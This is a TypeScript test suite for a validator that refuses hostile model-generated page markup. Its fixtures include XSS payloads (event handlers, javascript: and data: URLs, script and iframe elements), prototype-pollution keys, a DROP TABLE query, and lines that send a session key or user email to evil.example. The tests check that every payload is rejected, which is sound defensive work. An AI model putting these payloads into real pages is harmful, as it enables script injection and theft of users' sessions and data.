/**
 * Hostile model output: script injection in every position (attributes,
 * event handlers, htmx handlers, srcdoc, javascript: and data: URLs,
 * off-site htmx and form targets, raw!, script and style elements, in any
 * case), prototype keys, huge nesting, writing primitives and components,
 * definitions. Each is put in every place of a few ordinary pages, and
 * validateGenerated must refuse it with a problem positioned inside what
 * was put there.
 */
import { describe, expect, it } from "vitest";
import { buildCatalog, extractSexp, repairSexp, validateGenerated } from "../src/index.ts";
import { testSite } from "./generation-helpers.ts";

const site = await testSite();
const catalog = buildCatalog(site);

/** Hostile attributes (put where an element's attributes go). */
const ATTRIBUTES = [
  ':onclick "alert(1)"',
  ':ONMOUSEOVER "alert(1)"',
  ':onerror (str "alert(" 1 ")")',
  ':hx-on:click "alert(1)"',
  ':hx-on::after-request "alert(1)"',
  ':data-hx-on-click "alert(1)"',
  ':hx-vals "js:{a: alert(1)}"',
  ':hx-trigger "load[alert(1)]"',
  ':hx-headers "js:{}"',
  ':srcdoc "<script>alert(1)</script>"',
  ':href "javascript:alert(1)"',
  ':href " JaVaScRiPt:alert(1)"',
  ':href "java\tscript:alert(1)"',
  ':src "data:text/html,<script>alert(1)</script>"',
  ':xlink:href "vbscript:msgbox(1)"',
  ':formaction "javascript:alert(1)"',
  ':hx-get "https://evil.example/steal"',
  ':hx-post "//evil.example/steal"',
  ':data-hx-get "https://evil.example/"',
  ':hx-get (str "/x" (session-key))',
  ':action "https://evil.example/"',
  ':style "background:url(https://evil.example/x.png)"',
  ':style "width:expression(alert(1))"',
  ':srcset "javascript:alert(1) 1x"',
  ':src (str "https://evil.example/?k=" (session-key))',
  ':href (str "https://evil.example/?u=" (:email (current-user)))',
  ':__proto__ "x"',
  ':constructor "x"',
  ':prototype 1',
];

/** Hostile forms (put where a child goes). */
const FORMS = [
  '(raw! "<img src=x onerror=alert(1)>")',
  '(script "alert(1)")',
  '(SCRIPT "alert(1)")',
  '(Script :src "https://evil.example/x.js")',
  '(style "body { background: url(https://evil.example/) }")',
  '(iframe :src "/account/")',
  '(object :data "/x.swf")',
  '(embed :src "/x.swf")',
  '(base :href "https://evil.example/")',
  '(meta :http-equiv "refresh" :content "0;url=https://evil.example/")',
  '(link :rel "stylesheet" :href "https://evil.example/x.css")',
  '(frameset (frame :src "/"))',
  "(defcomp ~evil () (p 1))",
  '(define x "y")',
  "(define (f) 1)",
  '(defroute "/evil/" (p 1))',
  '(defquery evil all () :sql "SELECT * FROM users")',
  '(defaction evil drop () :sql "DROP TABLE users")',
  "(action cart add-item :product_id 1)",
  "(sign-out)",
  "(map sign-out (list 1))",
  "(~buy :product nil)",
  "(query account orders :user_id 1)",
  "(~cart-mini :user_id 1)",
  "(frag cart cart-mini :user_id 1)",
  "(apply query (list 'account 'orders :user_id 1))",
  "(map frag (list 1))",
  "(~picks :heading (session-key))",
  '(p {:__proto__ {:polluted true}})',
  '(p (get {"__proto__" 1} "__proto__"))',
  '(div ' + "(div ".repeat(80) + ")".repeat(81),
];

/** Ordinary pages, with `@A` where attributes go and `@F` where a child goes. */
const PAGES = [
  '(div :class "page" @A (h1 "Hello") @F)',
  '(ul @A (map (fn (x) (li @A (a :href (str "/market/" (:slug x) "/") @A (:name x)) @F)) (query market products)))',
  '(let ((x (query market product-by-slug :slug "loaf")))\n  (when x\n    (article @A\n      (h2 (:name x))\n      @F)))',
  '(~page :title "T"\n  (section @A @F)\n  @F)',
  '(if (empty? (query market products)) (p @A "none") (<> @F))',
];

/** Each page with one hostile piece in one of its places (the others left empty), and where the piece is. */
function* placed(piece: string, marker: "@A" | "@F"): Generator<{ text: string; start: number; end: number }> {
  for (const page of PAGES) {
    const parts = page.split(marker);
    for (let i = 0; i + 1 < parts.length; i++) {
      const before = parts.slice(0, i + 1).join("");
      const text = (before + piece + parts.slice(i + 1).join("")).replace(/ ?@[AF]/g, "");
      const start = before.replace(/ ?@[AF]/g, "").length;
      yield { text, start, end: start + piece.length };
    }
  }
}

/** Line and column of an offset. */
function position(text: string, offset: number): { line: number; col: number } {
  const lines = text.slice(0, offset).split("\n");
  return { line: lines.length, col: lines[lines.length - 1]!.length + 1 };
}

function within(text: string, start: number, end: number, p: { line: number; col: number }): boolean {
  const s = position(text, start);
  const e = position(text, end);
  const after = (a: { line: number; col: number }, b: { line: number; col: number }) => a.line > b.line || (a.line === b.line && a.col >= b.col);
  return after(p, s) && after(e, p);
}

describe("hostile output", () => {
  it("the pages themselves pass (so every refusal below is the hostile piece's)", () => {
    for (const page of PAGES) expect(validateGenerated(page.replace(/ ?@[AF]/g, ""), { ...site, catalog }).problems, page).toEqual([]);
  });

  it.each(ATTRIBUTES)("refuses the attribute %s wherever it is put, at a position inside it", (attribute) => {
    let places = 0;
    for (const { text, start, end } of placed(attribute, "@A")) {
      places++;
      const { problems } = validateGenerated(text, { ...site, catalog });
      expect(problems.length, text).toBeGreaterThan(0);
      expect(problems.some((p) => within(text, start, end, p)), `${text}\n${JSON.stringify(problems)}`).toBe(true);
      for (const p of problems) expect(p.message.length).toBeGreaterThan(20);
    }
    expect(places).toBeGreaterThan(5);
  });

  it.each(FORMS)("refuses %s wherever it is put, at a position inside it", (form) => {
    let places = 0;
    for (const { text, start, end } of placed(form, "@F")) {
      places++;
      const { problems } = validateGenerated(text, { ...site, catalog });
      expect(problems.length, text).toBeGreaterThan(0);
      expect(problems.some((p) => within(text, start, end, p)), `${text}\n${JSON.stringify(problems)}`).toBe(true);
    }
    expect(places).toBeGreaterThan(5);
  });

  it("refuses each with words that say what is wrong", () => {
    const said = (text: string) => validateGenerated(text, { ...site, catalog }).problems.map((p) => p.message).join(" | ");
    expect(said('(p :onclick "x")')).toMatch(/:onclick is not allowed in untrusted content: it can run script/);
    expect(said('(a :href "javascript:alert(1)" "x")')).toMatch(/unsafe URL in :href/);
    expect(said('(div :hx-get "https://evil.example/")')).toMatch(/:hx-get in untrusted content must be a literal path on this site/);
    expect(said('(script "x")')).toMatch(/<script> is not allowed in untrusted content: it runs script/);
    expect(said('(raw! "x")')).toMatch(/\(raw! \.\.\.\) is not allowed/);
    expect(said("(defcomp ~x () 1)")).toMatch(/\(defcomp \.\.\.\) is not allowed in untrusted content: it may use the definitions it is given/);
    expect(said("(sign-out)")).toMatch(/sign-out is not allowed in untrusted content: it changes data/);
    expect(said("(div " + "(div ".repeat(80) + ")".repeat(81))).toMatch(/nesting deeper than 64 levels/);
    expect(said('(p :__proto__ "x")')).toMatch(/prototype property/);
  });

  it("extracts, repairs and validates pathological replies in linear time", () => {
    for (const reply of ["(".repeat(60_000), '("'.repeat(30_000), "(;".repeat(30_000), "(let [".repeat(10_000), ")".repeat(60_000), '"'.repeat(60_000), "```lisp\n".repeat(5_000), "(p ".repeat(20_000) + '"x']) {
      const t = performance.now();
      const extracted = extractSexp(reply);
      const repaired = repairSexp(extracted?.text ?? reply);
      validateGenerated(repaired.text, { ...site, catalog });
      expect(performance.now() - t, JSON.stringify(reply.slice(0, 12))).toBeLessThan(1500);
    }
  });

  it("stays fast on a large hostile reply", () => {
    const text = "(div " + '(p :onclick "x" (raw! "y") (script "z"))\n'.repeat(800) + ")";
    const t = performance.now();
    const { problems } = validateGenerated(text, { ...site, catalog });
    expect(problems.length).toBe(2400);
    expect(performance.now() - t).toBeLessThan(2000);
  });
});
